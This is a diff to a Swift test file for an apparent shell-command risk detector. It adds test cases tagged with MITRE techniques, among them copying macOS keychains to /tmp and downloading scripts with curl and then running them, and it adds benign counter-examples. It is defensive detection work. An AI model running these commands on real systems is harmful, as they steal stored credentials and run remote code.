@@ -151,6 +151,11 @@ import Testing
         Case(rule: "macOS account deleted through sudo sysadminctl", command: "sudo sysadminctl -deleteUser bob", dialect: .sh, technique: "T1531"),
         Case(rule: "cloud directory account deleted", command: "az ad user delete --id bob@example.com", dialect: .sh, technique: "T1531"),
         Case(rule: "Entra ID account deleted", command: "Remove-AzureADUser -ObjectId bob@example.com", dialect: .powershell, technique: "T1531"),
+        // macOS keychains copied; curl's bundled output flags.
+        Case(rule: "keychain folder archived", command: #"ditto -c -k --keepParent "$HOME/Library/Keychains" /tmp/k.zip"#, dialect: .sh, technique: "T1555.001"),
+        Case(rule: "system keychain copied", command: "cp /Library/Keychains/System.keychain /tmp/", dialect: .sh, technique: "T1555.001"),
+        Case(rule: "download saved with -sO, then run", command: "curl -sO https://example.com/atomic.sh; bash atomic.sh", dialect: .sh, atLeast: .critical, technique: "T1105"),
+        Case(rule: "download saved with -fsSLo FILE, then run", command: "curl -fsSLo /tmp/i.sh https://example.com/i.sh; sh /tmp/i.sh", dialect: .sh, atLeast: .critical, technique: "T1105"),
         Case(rule: "double extension", command: "echo 'id' > /tmp/report.pdf.sh; chmod +x /tmp/report.pdf.sh; /tmp/report.pdf.sh", dialect: .sh, technique: "T1036.007"),
     ]
 
@@ -213,6 +218,8 @@ import Testing
         Case(rule: "an ordinary file stream", command: #"$h = New-Object IO.FileStream "C:\x\data.bin", 'Open'"#, dialect: .powershell, atLeast: .medium),
         Case(rule: "cloud directory users listed", command: "az ad user list", dialect: .sh, atLeast: .medium),
         Case(rule: "macOS accounts listed", command: "sysadminctl -list", dialect: .sh, atLeast: .medium),
+        Case(rule: "a page fetched quietly", command: "curl -sS https://example.com/x", dialect: .sh, atLeast: .low),
+        Case(rule: "a download saved, not run", command: "curl -sO https://example.com/notes.txt", dialect: .sh, atLeast: .medium),
         Case(rule: "an EXIT trap", command: "trap 'rm -f /tmp/lock' EXIT", atLeast: .medium),
         Case(rule: "a DEBUG trap that does not copy commands", command: "trap 'echo step' DEBUG", atLeast: .low),
         Case(rule: "the pod's namespace read", command: "cat /run/secrets/kubernetes.io/serviceaccount/namespace", dialect: .sh, atLeast: .low),
